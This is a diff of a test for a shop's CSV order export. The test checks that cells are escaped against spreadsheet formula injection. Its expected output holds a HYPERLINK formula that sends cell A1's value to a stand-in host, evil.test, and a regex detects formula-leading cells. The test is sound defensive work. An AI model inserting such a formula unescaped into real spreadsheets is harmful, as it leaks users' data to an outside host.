@@ -182,11 +182,11 @@ describe('the order export', () => {
     const { csv, count, next } = (await ask(shop.app, exportOrders, { body: {} })).result;
     expect(count).toBe(1);
     expect(next).toBeUndefined();
-    expect(csv.startsWith('\uFEFFnumber,createdAt,timeZone,status,')).toBe(true);
+    expect(csv.startsWith('\uFEFF"number","createdAt","timeZone","status",')).toBe(true);
     expect(csv).toContain(`"'=HYPERLINK(""http://evil.test?""&A1,""x"")"`);
     // No cell begins with a formula sign.
     expect(csv.split(/\r\n/)[1]).not.toMatch(/(?:^|,)"?[=+\-@]/);
-    const [head, row] = parseCsv(csv) ?? [];
+    const [head, row] = parseCsv(csv);
     const cells = Object.fromEntries(
       (head?.cells ?? []).map((name, index) => [name, row?.cells[index]]),
     );
